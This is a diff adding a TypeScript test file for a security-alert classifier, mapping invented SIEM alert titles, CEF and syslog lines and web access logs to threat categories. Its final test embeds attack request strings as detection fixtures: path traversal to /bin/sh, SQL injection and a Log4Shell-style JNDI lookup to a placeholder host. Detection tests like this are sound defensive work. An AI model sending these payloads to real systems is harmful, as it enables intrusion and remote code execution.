@@ -1,0 +1,71 @@
+// What an alert claims follows from what its name and content say, in the words of the trade. All examples are invented.
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { readAlert } from '../read-alert.ts'
+import { claimsOfType } from './read-claims.ts'
+
+const claimOf = (alert_type: string, alert_content = '{}') =>
+  readAlert({ alert_provider: 'siem', alert_type, alert_content, created_at_source: 1773218536, domains: [] }).claims[0]
+    ?.claim
+
+function check(name: string, examples: Readonly<Record<string, string>>) {
+  test(name, () => {
+    for (const [title, claim] of Object.entries(examples)) assert.equal(claimsOfType(title)[0], claim, title)
+  })
+}
+
+check('what was done to what decides', {
+  'Tenant Audit Streaming Deactivated': 'defence-evasion',
+  'Vault Recovery Snapshots Removed': 'ransomware',
+  'Scheduled task disabled by installer': 'defence-evasion',
+  'Workspace API Key Generated': 'persistence',
+  'Project Owner Assigned': 'privilege-change',
+  'Bulk Export of Records': 'exfiltration',
+  'Wiki Page Shared Externally': 'exfiltration',
+  'Webhook Modified': 'cloud-change',
+})
+
+check('a deed without an object, or a log level, claims nothing', {
+  created: 'unknown',
+  'acme log: update': 'unknown',
+  'acme event: info': 'unknown',
+  policy_name: 'unknown',
+})
+
+check('techniques are known by their names', {
+  'Possible Boot or Logon Initialization Scripts': 'persistence',
+  'Adversary used Domain Fronting': 'command-and-control',
+})
+
+check('a sign-in that failed is no sign-in', {
+  'User login failed for user account': 'brute-force',
+  'Invalid user login attempt': 'brute-force',
+})
+
+check('payment fraud is known in other languages', {
+  'Signalement : changement de RIB du fournisseur': 'phishing-delivered',
+  'Verdacht: geänderte Bankverbindung eines Lieferanten': 'phishing-delivered',
+  'Cambio de cuenta bancaria del proveedor': 'phishing-delivered',
+})
+
+test('a reason or a remark never makes an alert informational', () => {
+  const cef = (name: string) =>
+    `CEF:0|Acme|NGFW|1|7|${name}|5|src=10.1.2.3 dst=185.220.101.44 reason=License expired, backup completed`
+  assert.equal(claimOf('Gateway event', cef('Event 7')), 'unknown')
+  assert.equal(claimOf('Gateway event', cef('Malware callback')), 'command-and-control')
+})
+
+test('where the name says nothing, a clear word of the content is enough', () => {
+  assert.equal(
+    claimOf('syslog', '<86>Nov 14 22:10:03 web-03 sshd[2211]: Accepted publickey for deploy from 185.220.101.44'),
+    'unfamiliar-sign-in',
+  )
+  assert.equal(claimOf('event', 'Something about a user and a mail'), 'unknown')
+})
+
+test('requests show what they try', () => {
+  const request = (path: string) => `185.220.101.44 - - [14/Nov/2026:22:10:03 +0100] "GET ${path} HTTP/1.1" 400 226`
+  for (const path of ['/cgi-bin/.%2e/.%2e/bin/sh', '/?q=1%27%20or%201=1', '/?x=$' + '{jndi:ldap://a.example/x}'])
+    assert.equal(claimOf('access', request(path)), 'exploitation-attempt', path)
+  assert.equal(claimOf('access', request('/images/logo.png')), 'unknown')
+})
